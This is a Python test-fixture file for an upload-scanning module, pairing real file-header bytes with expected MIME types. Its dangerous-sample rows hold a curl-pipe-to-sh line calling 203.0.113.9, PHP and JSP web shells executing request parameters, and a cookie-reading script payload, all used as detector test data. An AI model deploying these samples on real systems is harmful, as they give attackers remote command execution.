# Copyright (c) 2026, aiguard.hardening maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Real file headers and policies shared by the uploadscan unit tests."""

from __future__ import annotations

import io
import struct
import wave
import zipfile

from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import kinds as us_kinds
from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import verdict as us_verdict


def h(text):
    return bytes.fromhex(text.replace(" ", ""))


def _wav():
    buf = io.BytesIO()
    with wave.open(buf, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\0\0" * 800)
    return buf.getvalue()


def _zip(name="report.txt"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        out.writestr(name, "hello")
    return buf.getvalue()


def _pe():
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\0" * 47)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub.ljust(0x80 - len(dos), b"\0")
    return body + b"PE\0\0" + h("6486 0600 00000000 00000000 00000000 f000 2200")


# Real header bytes, each with where it comes from, and the type libmagic
# (file --mime-type, 5.44) gives for the same bytes: the table is checked
# against libmagic below when `file` is installed.
HEADERS = [
    # name, type, libmagic MIME, bytes
    (
        "mp4",
        "mp4",
        "video/mp4",  # ffmpeg (Lavf) output: gradio/media_assets/videos/a.mp4
        h("00000020 66747970 69736f6d 00000200 69736f6d 69736f32 61766331 6d703431 00000008 667265650001dacd 6d646174"),
    ),
    (
        "m4a",
        "m4a",
        "audio/x-m4a",  # iTunes AAC
        h("00000020 66747970 4d344120 00000000 4d344120 6d703432 69736f6d 00000000 00000008 66726565"),
    ),
    (
        "mov",
        "mov",
        "video/quicktime",  # QuickTime / iPhone
        h("00000014 66747970 71742020 20050300 71742020 00000008 77696465 0001dacd 6d646174"),
    ),
    ("wav", "wav", "audio/x-wav", _wav()),  # Python's wave module
    (
        "wav",
        "wav",
        "audio/x-wav",  # gradio/media_assets/audio/audio_sample.wav
        h("52494646 003f0000 57415645 666d7420 10000000 01000100 401f0000 803e0000 02001000 64617461dc3e0000 8eff0fff"),
    ),
    # ID3v2.3 tag of gradio/media_assets/audio/cate_blanch.mp3; libmagic needs the
    # audio frame behind the 4 KiB tag to say audio/mpeg.
    (
        "mp3",
        "mp3",
        None,
        h("49443303 00000000 201e5445 4e430000 00140000 004d6f76 6965736f 756e6463 6c697073 2e6e657400000000 00000000"),
    ),
    (
        "mp3",
        "mp3",
        "audio/mpeg",  # ID3v2.4 by Lavf, then a LAME frame
        h("49443304 00000000 00165453 53450000 000c0000 034c6176 6635332e 352e3000 fff380c4 0000000348000000 004c414d"),
    ),
    (
        "mp3",
        "mp3",
        "audio/mpeg",  # no tag: MPEG-1 layer III frames, 128 kbit/s, 44.1 kHz, 417 bytes each
        (h("fffb9064") + b"\0" * 413) * 3,
    ),
    (
        "flac",
        "flac",
        "audio/flac",  # libFLAC STREAMINFO
        h("664c6143 00000022 10001000 00000e00 1c3c0ac4 42f00000 0000d5c9 f1e0b2e4 3a5f1b37 9da6b5f3ac108400 0028200d"),
    ),
    (
        "ogg",
        "ogg",
        "audio/ogg",  # Ogg Vorbis first page
        h(
            "4f676753 00020000 00000000 00004c8b 36380000 00006cb6 d2a6011e 01766f72 62697300 00000001"
            "44ac0000 00000000 80380100 00000000 b801"
        ),
    ),
    (
        "webm",
        "webm",
        "video/webm",  # ffmpeg EBML header, DocType webm
        h("1a45dfa3 9f428681 0142f781 0142f281 0442f381 08428284 7765626d 42878102 42858102 18538067"),
    ),
    (
        "mkv",
        "mkv",
        "video/x-matroska",  # mkvmerge EBML header, DocType matroska
        h("1a45dfa3 a3428681 0142f781 0142f281 0442f381 08428288 6d617472 6f736b61 42878104 42858102"),
    ),
    (
        "png",
        "png",
        "image/png",  # gradio/media_assets/images/avatar.png
        h("89504e47 0d0a1a0a 0000000d 49484452 00000042 00000039 08060000 0082b1fd ea000000 0467414d410000b1 8f0bfc61"),
    ),
    (
        "jpg",
        "jpeg",
        "image/jpeg",  # JFIF with Exif: gradio/media_assets/images/cheetah.jpg
        h("ffd8ffe0 00104a46 49460001 0101012c 012c0000 ffe1005a 45786966 00004949 2a000800 000001000e010200 38000000"),
    ),
    (
        "gif",
        "gif",
        "image/gif",  # GIF89a: gradio/media_assets/images/screenshot.gif
        h("47494638 39618808 000570ff 0021ff0b 4e455453 43415045 322e3003 01000000 21f90400 2a00ff002c000000 00880800"),
    ),
    (
        "webp",
        "webp",
        "image/webp",  # CPython test data python.webp (VP8X)
        h("52494646 a8010000 57454250 56503858 0a000000 10000000 0f00000f 0000414c 5048c300 00000127a2a89124 e57ae718"),
    ),
    (
        "bmp",
        "bmp",
        "image/bmp",  # CPython test data python.bmp (BITMAPV5HEADER)
        h("424d8a04 00000000 00008a00 00007c00 00001000 00001000 00000100 20000300 00000004 00000000"),
    ),
    (
        "tif",
        "tiff",
        "image/tiff",  # CPython test data python.tiff (little-endian)
        h("49492a00 08040000 00000000 00000000 00000000 00004e8d c0af4a86 baed4883 b4ff447e adff4078"),
    ),
    (
        "tif",
        "tiff",
        "image/tiff",  # big-endian TIFF
        h("4d4d002a 00000008 00110100 00030000 00010010 00000101 00030000 00010010 0000"),
    ),
    (
        "pdf",
        "pdf",
        "application/pdf",  # pdfTeX: libtasn1.pdf
        h("25504446 2d312e35 0a25d0d4 c5d80a31 2030206f 626a0a3c 3c0a2f4c 656e6774 68203538 37202020"),
    ),
    ("zip", "zip", "application/zip", _zip()),  # Python's zipfile
    # Executable and script content.
    # Debian's /bin/true; libmagic says x-pie-executable for the whole file, it
    # needs the dynamic section to tell a PIE from a shared library.
    (
        "bin",
        "elf",
        "application/x-sharedlib",
        h("7f454c46 02010100 00000000 00000000 03003e00 01000000 d0230000 00000000 40000000 00000000"),
    ),
    ("exe", "pe", "application/vnd.microsoft.portable-executable", _pe()),
    (
        "bin",
        "macho",
        "application/x-mach-binary",  # 64-bit x86_64 executable
        h("cffaedfe 07000001 03000000 02000000 10000000 58050000 85002000 00000000"),
    ),
    ("sh", "script", "text/x-shellscript", b"#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/x | sh\n"),
    ("php", "php", "text/x-php", b"<?php system($_GET['cmd']); ?>\n"),
    (
        "html",
        "html",
        "text/html",
        b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n",
    ),
    (
        "jsp",
        "server-page",
        None,
        b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
    ),
    ("aspx", "server-page", None, b'<%@ Page Language="C#" %>\n<% Response.Write("x"); %>\n'),
    ("js", "javascript", None, b"(function () {\n  fetch('/gradio_api/upload');\n})();\n"),
]
MAGIC_ROWS = [row for row in HEADERS if row[2]]
MEDIA_ROWS = [row for row in HEADERS if us_kinds.TYPES[row[1]].family == us_kinds.MEDIA]
DANGEROUS_ROWS = [row for row in HEADERS if us_kinds.TYPES[row[1]].family == us_kinds.DANGEROUS]
POLICY = us_verdict.Policy()
EVERYTHING = us_verdict.Policy(allowed_types=(*us_kinds.DEFAULT_ALLOWED, "pdf", "zip"))


def ids(rows):
    return [f"{row[1]}-{i}" for i, row in enumerate(rows)]


def quarantine_policy(tmp_path, **kwargs):
    return us_verdict.Policy(action=us_kinds.QUARANTINE, quarantine_dir=str(tmp_path / "quarantine"), **kwargs)
